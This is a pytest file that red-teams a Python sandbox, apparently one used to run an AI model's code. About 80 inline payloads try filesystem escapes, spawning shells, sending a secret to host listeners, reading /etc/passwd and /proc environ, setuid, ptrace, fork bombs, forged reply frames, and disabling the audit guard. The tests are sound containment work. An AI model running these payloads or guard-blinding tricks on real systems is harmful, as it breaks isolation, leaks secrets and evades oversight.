"""Red team of ``python_sandbox``: real attacks, each one observable from the host had it succeeded.

Why this module exists: issue 32 tried 71 attacks as ordinary Python against the old sandbox and 39 got
past a claimed barrier. Each attack here is a genuine attempt (not a check that a message appears):
its success would show on the host as a changed canary file (in a world-writable host dir, so an
unisolated ``nobody`` *could* write it), data on a host listener (TCP, UDP, DNS on 127.0.0.1:53, an
AF_UNIX datagram socket, an abstract socket), a killed host process (one runs as ``nobody`` too), a
secret (a host file, a host process's argv and environment, another session's file) in the output, a
SysV segment written, a changed stdlib file or ``core_pattern``, or processes, files and memory beyond
the session's limits. The Python audit guard is off here (``guard: false``): an attacker removes it
(one test does it the issue's way first). After each attack the session is ended and every process of
it must be gone with its cgroup.
"""

from __future__ import annotations

import ctypes
import os
import select
import socket
import string
import subprocess
import sys
import tempfile
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
from unirl_agentic.sandbox import PythonSandbox, SandboxOptions, processes_with_token
from unirl_agentic.tooling import ToolFailure

SECRET = "unirl-canary-" + uuid.uuid4().hex
MAX_PROCS, MEMORY_MB, TIMEOUT = 8, 256, 2.0


@dataclass
class Attack:
    name: str
    category: str
    code: str  # a string.Template over the host facts ($canary, $tcp, ...)
    expect: str = "contained"  # or "killed": the call must end in a ToolFailure (timeout, dead session)


A = Attack
ATTACKS = [
    # ---- filesystem escape: the canary dir is world-writable on the host
    A("write-canary", "fs", "open('$canary/pwned', 'w').write('x')"),
    A("write-secret-file", "fs", "open('$canary/secret.txt', 'a').write('x')"),
    A("read-secret-file", "fs", "print(open('$canary/secret.txt').read())"),
    A("listdir-canary", "fs", "import os; print(os.listdir('$canary'))"),
    A("dotdot-traversal", "fs", "open('/scratch/../../../../$canary/pwned', 'w').write('x')"),
    A("mkfifo", "fs", "import os; os.mkfifo('$canary/fifo')"),
    A("mknod", "fs", "import os, stat; os.mknod('$canary/node', stat.S_IFREG | 0o666)"),
    A("sqlite", "fs", "import sqlite3; sqlite3.connect('$canary/x.db').execute('create table t(x)')"),
    A("dbm", "fs", "import dbm.dumb as d; d.open('$canary/db', 'c')['k'] = 'v'"),
    A("dir-fd", "fs", "import os; fd = os.open('/', os.O_RDONLY); os.open('$canary_rel/pwned', os.O_CREAT | os.O_WRONLY, dir_fd=fd)"),
    A("symlink-out", "fs", "import os; os.symlink('$canary', '/scratch/l'); open('/scratch/l/pwned', 'w').write('x')"),
    A("hardlink-secret", "fs", "import os; os.link('$canary/secret.txt', '/scratch/h'); print(open('/scratch/h').read())"),
    A("proc-root-escape", "fs", "open('/proc/1/root$canary/pwned', 'w').write('x')"),
    A("proc-cwd-escape", "fs", "import os; print(os.listdir('/proc/self/cwd/../$canary_rel'))"),
    A("write-stdlib", "fs", "open('$stdlib_os', 'a').write('\\n# pwned')"),
    A("chmod-stdlib", "fs", "import os; os.chmod('$stdlib_os', 0o777)"),
    A("chroot", "fs", "import os; os.chroot('/tmp'); open('$canary/pwned', 'w').write('x')"),
    A("walk-root", "fs", "import os\nfor r, d, f in os.walk('/'):\n    if '$secret' in ''.join(f): print(r)\n"
      "    for n in f:\n        try: print(open(os.path.join(r, n), errors='ignore').read(4096))\n        except Exception: pass"),
    A("etc-passwd", "fs", "print(open('/etc/passwd').read())"),
    # ---- exec paths: spawning with or without the audited calls
    A("os-system", "exec", "import os; os.system('touch $canary/pwned')"),
    A("subprocess", "exec", "import subprocess; subprocess.run(['sh', '-c', 'touch $canary/pwned'])"),
    A("posixsubprocess-sh", "exec", "import _posixsubprocess, os, time; r, w = os.pipe()\n"
      "pid = _posixsubprocess.fork_exec(['/bin/sh', '-c', 'touch $canary/pwned'], [b'/bin/sh'], True, (w,), None, "
      "None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, False)\n"
      "os.close(w); print(pid, os.read(r, 100)); time.sleep(0.3)"),
    A("posixsubprocess-python", "exec", "import _posixsubprocess, os, sys, time; r, w = os.pipe()\n"
      "pid = _posixsubprocess.fork_exec([sys.executable, '-c', \"import socket; socket.create_connection(('127.0.0.1', "
      "$tcp)); open('$canary/pwned', 'w')\"], [sys.executable.encode()], True, (w,), None, None, -1, -1, -1, -1, -1, "
      "-1, r, w, False, False, -1, None, None, None, -1, None, False)\nos.close(w); print('pid', pid, os.waitpid(pid, 0))"),
    A("execv-python", "exec", "import os, sys; os.execv(sys.executable, [sys.executable, '-c', "
      "\"import socket; socket.create_connection(('127.0.0.1', $tcp)).send(b'$secret')\"])", "killed"),
    A("posix-spawn", "exec", "import os, sys; os.posix_spawn(sys.executable, [sys.executable, '-c', "
      "\"open('$canary/pwned', 'w')\"], {}); import time; time.sleep(0.5)"),
    A("subinterpreter", "exec", "import _xxsubinterpreters as x; i = x.create(); x.run_string(i, "
      "\"open('$canary/pwned', 'w').write('x')\")"),
    A("testcapi-subinterp", "exec", "import _testcapi; _testcapi.run_in_subinterp("
      "\"import socket; socket.create_connection(('127.0.0.1', $tcp)).send(b'x')\")"),
    A("ctypes-renamed", "exec", "import importlib; c = importlib.import_module('_ctypes'); import ctypes as C; "
      "C.CDLL(None).system(b'touch $canary/pwned')"),
    # ---- network
    A("tcp-connect", "net", "import socket; socket.create_connection(('127.0.0.1', $tcp), 1).send(b'$secret')"),
    A("tcp-connect-ipv6", "net", "import socket; socket.create_connection(('::1', $tcp), 1).send(b'x')"),
    A("udp-sendto", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', $udp))"),
    A("udp-sendmsg", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, ('127.0.0.1', $udp))"),
    A("tcp-fastopen", "net", "import socket; s = socket.socket(); s.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', $tcp))"),
    A("listen-without-bind", "net", "import socket; s = socket.socket(); s.listen(); print('PORT', s.getsockname()[1])\n"
      "import time; time.sleep(1.0)"),
    A("dns-getaddrinfo", "net", "import socket; print(socket.getaddrinfo('unirl-canary.example', 80))"),
    A("dns-raw-udp", "net", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
      "b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x00\\x00\\x01\\x00\\x01', ('127.0.0.1', 53))"),
    A("unix-dgram-host", "net", "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '$unix')"),
    A("unix-abstract-host", "net", "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', '\\0$abstract')"),
    A("netlink", "net", "import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
    A("packet-raw", "net", "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    A("ctypes-socket", "net", "import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True)\n"
      "fd = libc.socket(2, 1, 0)\naddr = struct.pack('<HH4s8x', 2, __import__('socket').htons($tcp), bytes([127, 0, 0, 1]))\n"
      "assert fd >= 0, ctypes.get_errno(); libc.connect(fd, addr, 16); libc.send(fd, b'x', 1, 0)"),
    A("io-uring-setup", "net", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); p = ctypes.create_string_buffer(120)\n"
      "fd = libc.syscall(425, 8, p); assert fd >= 0, ctypes.get_errno()\n"
      "import socket; socket.create_connection(('127.0.0.1', $tcp), 1)"),
    # ---- IPC
    A("sysv-shm", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); libc.shmat.restype = ctypes.c_void_p\n"
      "i = libc.shmget($shmkey, 0, 0); assert i >= 0, ctypes.get_errno(); p = libc.shmat(i, None, 0); "
      "ctypes.memmove(p, b'PWNED', 5)"),
    A("posix-shm", "ipc", "open('/dev/shm/$shmname', 'w').write('PWNED')"),
    A("kill-host-victim", "ipc", "import os, signal; os.kill($victim, signal.SIGKILL)"),
    A("kill-all", "ipc", "import os, signal, time\nif os.fork() == 0:\n    time.sleep(10)\nos.kill(-1, signal.SIGKILL)"),
    A("ptrace-attach", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.ptrace(16, $victim, 0, 0) == 0, ctypes.get_errno(); libc.kill($victim, 9)"),
    A("process-vm-writev", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True)\n"
      "buf = ctypes.create_string_buffer(b'PWNED'); iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 5)\n"
      "assert libc.process_vm_writev($victim, iov, 1, iov, 1, 0) >= 0, ctypes.get_errno()"),
    A("keyctl", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(248, b'user', b'unirl', b'$secret', 5, -4) >= 0, ctypes.get_errno()"),
    A("bpf", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(321, 0, 0, 0) >= 0, ctypes.get_errno()"),
    A("perf-event-open", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "attr = ctypes.create_string_buffer(128); assert libc.syscall(298, attr, -1, 0, -1, 0) >= 0, ctypes.get_errno()"),
    A("mount-tmpfs-over", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0, ctypes.get_errno()"),
    A("unshare-user", "ipc", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.unshare(0x10000000) == 0, ctypes.get_errno(); open('$canary/pwned', 'w')"),
    A("setns", "ipc", "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); fd = os.open('/proc/1/ns/net', os.O_RDONLY); "
      "assert libc.setns(fd, 0) == 0, ctypes.get_errno()"),
    # ---- other sessions
    A("read-other-session", "sessions", "import os\nfor d in ('/scratch', '/tmp', '/dev/shm', '$canary'):\n"
      "    try:\n        for n in os.listdir(d): print(d, n, open(os.path.join(d, n)).read())\n    except OSError: pass"),
    A("kill-other-session", "sessions", "import os, signal; os.kill($other_pid, signal.SIGKILL)"),
    A("other-session-proc", "sessions", "print(open('/proc/$other_pid/environ').read())"),
    # ---- /proc
    A("proc-trainer-cmdline", "proc", "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n"
      "        print(open(f'/proc/{p}/cmdline', 'rb').read(), open(f'/proc/{p}/environ', 'rb').read())"),
    A("proc-host-pid", "proc", "print(open('/proc/$host_secret_pid/cmdline').read())"),
    A("proc-core-pattern", "proc", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/pwn')"),
    A("proc-sysrq", "proc", "open('/proc/sysrq-trigger', 'w').write('h')"),
    A("proc-kcore", "proc", "print(open('/proc/kcore', 'rb').read(64))"),
    # ---- memory and processes (the host measures the session's cgroup)
    A("fork-bomb", "exhaustion", "import os\nfor _ in range(10000):\n    os.fork()"),
    A("thread-bomb", "exhaustion", "import threading, time\nfor _ in range(10000):\n"
      "    threading.Thread(target=time.sleep, args=(5,), daemon=True).start()"),
    A("memory-forked", "exhaustion", "import os, time\nfor _ in range(6):\n    if os.fork() == 0:\n"
      "        b = bytearray(200 * 2**20); time.sleep(2); os._exit(0)\ntime.sleep(3)", "killed"),
    A("memory-10g", "exhaustion", "b = bytearray(10 * 2**30)"),
    A("tmpfs-fill", "exhaustion", "for d in ('/tmp', '/dev/shm', '/scratch'):\n"
      "    with open(d + '/fill', 'wb') as f:\n        for _ in range(400): f.write(b'x' * 2**20)"),
    A("fd-exhaustion", "exhaustion", "fs = [open('/dev/null') for _ in range(100000)]"),
    # ---- timeouts with blocked signals (the parent kills the pid namespace)
    A("sigalrm-handler", "timeout", "import signal, time\nsignal.signal(signal.SIGALRM, lambda *a: time.sleep(100))\n"
      "signal.alarm(1)\nwhile True: pass", "killed"),
    A("sigmask-all", "timeout", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - "
      "{signal.SIGKILL, signal.SIGSTOP})\nwhile True: pass", "killed"),
    A("ignore-term", "timeout", "import signal, time\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
      "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(100)", "killed"),
    A("orphan-setsid", "timeout", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
      "        time.sleep(600)\n    os._exit(0)\nprint('spawned')"),
    A("kill-own-init", "timeout", "import os; os.kill(1, 9); import time; time.sleep(100)", "killed"),
    A("stop-self", "timeout", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)", "killed"),
    # ---- forged replies and the output cap
    A("forge-reply-fds", "forge", "import os, struct\nframe = b'UNIRLv2\\n' + struct.pack('>IIB', 2, 6, 0) + b'FORGED'\n"
      "for fd in range(3, 10):\n    try: os.write(fd, frame)\n    except OSError: pass"),
    A("forge-huge-length", "forge", "import os, struct\nfor fd in range(3, 10):\n"
      "    try: os.write(fd, b'UNIRLv2\\n' + struct.pack('>IIB', 1, 2**31, 0))\n    except OSError: pass\n"
      "import time; time.sleep(3)", "killed"),
    A("lift-output-cap", "forge", "import __main__; __main__.CAP = 10**9; print('y' * 10**7)"),
    A("forge-then-exit", "forge", "import os, struct\nfor fd in range(3, 10):\n"
      "    try: os.write(fd, b'UNIRLv2\\n' + struct.pack('>IIB', 1, 6, 0) + b'FORGED')\n    except OSError: pass\n"
      "os._exit(0)"),
    # ---- the audit hook removed, then the attack
    A("blind-guard-then-connect", "audit", "import __main__, gc; __main__._REFUSED.clear()\n"
      "import socket; socket.create_connection(('127.0.0.1', $tcp), 1).send(b'x')"),
    A("blind-guard-then-system", "audit", "import __main__; __main__._guard.__code__ = (lambda e, a: None).__code__\n"
      "import os; os.system('touch $canary/pwned')"),
    # ---- ctypes: raw syscalls
    A("ctypes-open-canary", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.open(b'$canary/pwned', 0o101, 0o666) >= 0, ctypes.get_errno()"),
    A("ctypes-setuid-root", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.setuid(0) == 0, ctypes.get_errno(); open('$canary/pwned', 'w')"),
    A("ctypes-clone-newuser", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) >= 0, ctypes.get_errno()"),
    A("ctypes-pivot-root", "ctypes", "import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
      "assert libc.syscall(155, b'/tmp', b'/tmp') == 0, ctypes.get_errno()"),
    A("ctypes-segfault", "ctypes", "import ctypes; ctypes.string_at(0)", "killed"),
]


# ------------------------------------------------------------------------------------------- host side
@pytest.fixture(scope="module")
def host():
    """The host's canaries and listeners, and one box (guard off: an attacker removes it)."""
    canary = Path(tempfile.mkdtemp(prefix="unirl-canary-"))
    canary.chmod(0o777)
    (canary / "secret.txt").write_text(SECRET)
    (canary / "secret.txt").chmod(0o666)
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    tcp.setblocking(False)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dns.bind(("127.0.0.1", 53))  # the sandbox has no resolv.conf: glibc asks 127.0.0.1:53
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    unix.bind(str(canary / "host.sock"))
    os.chmod(canary / "host.sock", 0o777)
    abstract_name = "unirl-canary-" + uuid.uuid4().hex[:8]
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    abstract.bind("\0" + abstract_name)
    nobody = (65534, 65534)

    def as_nobody():
        os.setgroups([])
        os.setgid(nobody[1])
        os.setuid(nobody[0])

    victim = subprocess.Popen(["sleep", "600"], preexec_fn=as_nobody)  # same host uid as the sandbox
    secret_proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", SECRET],
                                   env={"UNIRL_SECRET": SECRET})
    shmname = "unirl-canary-" + uuid.uuid4().hex[:8]
    Path("/dev/shm", shmname).write_text("host")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    shmkey = 0x554E4952  # 'UNIR'
    shmid = libc.shmget(shmkey, 4096, 0o1000 | 0o666)
    assert shmid >= 0, ctypes.get_errno()
    stdlib_os = os.path.join(os.path.dirname(os.__file__), "os.py")
    box = PythonSandbox(options=SandboxOptions(timeout_s=TIMEOUT, memory_mb=MEMORY_MB, max_procs=MAX_PROCS,
                                               scratch_mb=64, guard=False, pool_size=1, python="/usr/bin/python3"))
    assert box.isolation["mode"] == "bubblewrap" and box.isolation["seccomp"]
    other = "other-session"
    box.session_start(other)
    assert box.execute(other, {"code": f"open('/scratch/mine.txt', 'w').write('{SECRET}-other')"}).content == ""
    other_pid = box._sessions[other].proc.pid
    h = {
        "canary": str(canary), "canary_rel": str(canary).lstrip("/"), "secret": SECRET,
        "tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1], "unix": str(canary / "host.sock"),
        "abstract": abstract_name, "victim": victim.pid, "host_secret_pid": secret_proc.pid,
        "shmname": shmname, "shmkey": shmkey, "other_pid": other_pid,
        "stdlib_os": os.path.join(box.runtime["dirs"][0], "os.py"), "trainer": os.getpid(),
    }
    state = {"core_pattern": Path("/proc/sys/kernel/core_pattern").read_text(),
             "stdlib": {p: (os.stat(p).st_size, os.stat(p).st_mtime) for p in (stdlib_os, h["stdlib_os"])
                        if os.path.exists(p)},
             "shm": sorted(os.listdir("/dev/shm"))}
    yield {"h": h, "box": box, "canary": canary, "tcp": tcp, "udp": udp, "dns": dns, "unix": unix,
           "abstract": abstract, "victim": victim, "secret_proc": secret_proc, "libc": libc, "shmid": shmid,
           "state": state, "other": other}
    box.close()
    for p in (victim, secret_proc):
        p.kill()
        p.wait()
    for s in (tcp, udp, dns, unix, abstract):
        s.close()
    libc.shmctl(shmid, 0, None)  # IPC_RMID
    Path("/dev/shm", shmname).unlink(missing_ok=True)
    subprocess.run(["rm", "-rf", str(canary)])


def _received(sock) -> bytes:
    r, _, _ = select.select([sock], [], [], 0)
    return sock.recv(65536) if r else b""


def _host_unharmed(host, output: str) -> None:
    """Everything the host can observe: canaries, listeners, processes, secrets, shared memory."""
    h, canary = host["h"], host["canary"]
    assert sorted(os.listdir(canary)) == ["host.sock", "secret.txt"], "a file appeared in the host canary dir"
    assert (canary / "secret.txt").read_text() == SECRET, "the host canary file changed"
    assert SECRET not in output, "a host or other-session secret reached the sandbox"
    try:
        conn, _ = host["tcp"].accept()
        conn.close()
        raise AssertionError("the sandbox connected to a host TCP listener")
    except BlockingIOError:
        pass
    for name in ("udp", "dns", "unix", "abstract"):
        assert _received(host[name]) == b"", f"the {name} listener on the host received data"
    assert host["victim"].poll() is None, "a host process of the sandbox's uid was killed"
    assert host["secret_proc"].poll() is None
    p = host["libc"].shmat(host["shmid"], None, 0)
    assert ctypes.string_at(p, 5) != b"PWNED", "the host SysV segment was written"
    host["libc"].shmdt(ctypes.c_void_p(p))
    assert Path("/dev/shm", h["shmname"]).read_text() == "host"
    assert not os.path.exists("/dev/shm/fill"), "the sandbox wrote into the host /dev/shm"
    assert Path("/proc/sys/kernel/core_pattern").read_text() == host["state"]["core_pattern"]
    for path, st in host["state"]["stdlib"].items():
        assert (os.stat(path).st_size, os.stat(path).st_mtime) == st, f"{path} was modified"
    other = host["box"].execute(host["other"], {"code": "print(open('/scratch/mine.txt').read())"})
    assert other.content == f"{SECRET}-other\n", "another session was affected"


def _peak(box, sid: str, stop_after: float) -> tuple[int, int]:
    """Peak task count and peak memory of the session's cgroup while its call runs (host view)."""
    s = box._sessions[sid]
    cg = s.cgroup
    tasks = mem = 0
    end = time.monotonic() + stop_after
    while time.monotonic() < end:
        if cg is None:  # rlimit mode: count the session's tasks by its tracer token
            n = 0
            for pid in processes_with_token(s.token):
                try:
                    n += len(os.listdir(f"/proc/{pid}/task"))
                except OSError:
                    pass
            tasks = max(tasks, n - 2)  # bwrap and the namespace's init are outside max_procs' budget too
            time.sleep(0.01)
            continue
        for d in cg.dirs:
            for f, k in (("pids.current", "t"), ("memory.usage_in_bytes", "m")):
                try:
                    v = int(Path(d, f).read_text())
                except (OSError, ValueError):
                    continue
                if k == "t":
                    tasks = max(tasks, v)
                else:
                    mem = max(mem, v)
        time.sleep(0.01)
    return tasks, mem


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_is_contained(host, attack):
    box, h = host["box"], host["h"]
    code = string.Template(attack.code).substitute(h)
    sid = f"rt-{attack.name}"
    box.session_start(sid)
    s = box._sessions[sid]
    token, cgroup_dirs = s.token, list(s.cgroup.dirs) if s.cgroup else []
    import threading

    peak: list[tuple[int, int]] = []
    watcher = None
    if attack.category == "exhaustion":
        watcher = threading.Thread(target=lambda: peak.append(_peak(box, sid, TIMEOUT + 0.5)))
        watcher.start()
    t0 = time.monotonic()
    output, failure = "", None
    try:
        res = box.execute(sid, {"code": code})
        output = res.content
    except ToolFailure as exc:
        failure = str(exc)
        output = failure
    elapsed = time.monotonic() - t0
    if watcher is not None:
        watcher.join()
    assert elapsed < TIMEOUT + 3, f"the call took {elapsed:.1f}s: the timeout was not enforced"
    if attack.expect == "killed":
        assert failure is not None, f"expected the session to be killed, got {output[:300]!r}"
    if attack.name == "listen-without-bind" and "PORT" in output:
        port = int(output.split("PORT", 1)[1].split()[0])
        with pytest.raises(OSError):  # the sandbox's port is in its own network namespace
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
    if attack.name.startswith("forge") and failure is None and not s.dead:
        nxt = None
        try:
            nxt = box.execute(sid, {"code": "print('real')"}).content
        except ToolFailure:
            pass  # a forged frame is a protocol violation: the session ends
        assert nxt in (None, "real\n"), f"a forged reply was accepted: {nxt!r}"
    if attack.name == "lift-output-cap":
        assert len(output) <= box.options.max_output_chars + 100
    if peak:
        tasks, mem = peak[0]
        assert tasks <= MAX_PROCS + 4, f"{tasks} tasks: the pids limit did not hold"
        assert mem <= (MEMORY_MB << 20) + (1 << 20), f"{mem} bytes: the memory limit did not hold"
    box.session_end(sid)
    deadline = time.monotonic() + 5
    while processes_with_token(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert processes_with_token(token) == [], "a sandbox process outlived its session"
    assert not any(os.path.exists(d) for d in cgroup_dirs), "the session's cgroup was not removed"
    assert subprocess.run(["true"]).returncode == 0  # the host can still start processes
    _host_unharmed(host, output)


def test_the_red_team_covers_every_category():
    """Issue 32's acceptance: at least 60 attacks over every category it names."""
    cats = {a.category for a in ATTACKS}
    assert len(ATTACKS) >= 60 and len({a.name for a in ATTACKS}) == len(ATTACKS)
    assert cats >= {"fs", "exec", "net", "ipc", "sessions", "proc", "exhaustion", "timeout", "forge", "audit",
                    "ctypes"}
    assert any("subinterp" in a.name for a in ATTACKS) and any("posixsubprocess" in a.name for a in ATTACKS)


def test_the_sandbox_is_what_the_docs_say(host):
    """Observed from inside: namespaces, no capabilities, seccomp on, only the runtime mounted."""
    box = host["box"]
    box.session_start("look")
    try:
        out = box.execute("look", {"code": "import os\nst = open('/proc/self/status').read()\n"
                                  "print([l for l in st.splitlines() if l.startswith(('CapEff', 'Seccomp:', 'NoNewPrivs'))])\n"
                                  "print(os.getpid(), os.getuid(), sorted(os.listdir('/')), sorted(os.listdir('/usr')))\n"
                                  "print(sorted(os.listdir('/sys/class/net')) if os.path.exists('/sys/class/net') else 'no-sys')"
                                  }).content
    finally:
        box.session_end("look")
    import ast

    status = ast.literal_eval(out.splitlines()[0])
    assert status == ["CapEff:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"], status
    line = out.splitlines()[1]
    assert line.startswith("2 65534 ['dev', 'lib', 'lib64', 'proc', 'scratch', 'tmp', 'usr']"), line
    assert "['bin', 'lib']" in line or "['bin', 'lib', 'lib64']" in line, line  # /usr: the binary and libs only


def test_blinding_the_audit_guard_gains_nothing(host):
    """With the convenience guard on, the model first gets its clear message; the issue's ways of blinding
    it (``__main__`` globals, ``gc.get_objects()``) work, and the OS still contains what follows."""
    h = host["h"]
    box = PythonSandbox(options=SandboxOptions(timeout_s=TIMEOUT, guard=True, pool_size=0))
    box.session_start("g")
    try:
        first = box.execute("g", {"code": f"import socket; socket.create_connection(('127.0.0.1', {h['tcp']}))"})
        assert first.error and "not available here" in first.content
        blind = ("import gc\n"
                 "for o in gc.get_objects():\n"
                 "    if isinstance(o, dict) and 'socket.connect' in o and o is not globals(): o.clear()\n"
                 "import __main__; __main__._REFUSED.clear()\n")
        res = box.execute("g", {"code": blind + f"import socket, os\nos.system('touch {h['canary']}/pwned')\n"
                                f"socket.create_connection(('127.0.0.1', {h['tcp']}), 1).send(b'{SECRET}')"})
        assert res.error and "not available here" not in res.content  # blinded: now the OS answers
        assert "Errno 97" in res.content  # EAFNOSUPPORT from the seccomp filter
    finally:
        box.close()
    _host_unharmed(host, res.content.replace(SECRET, ""))
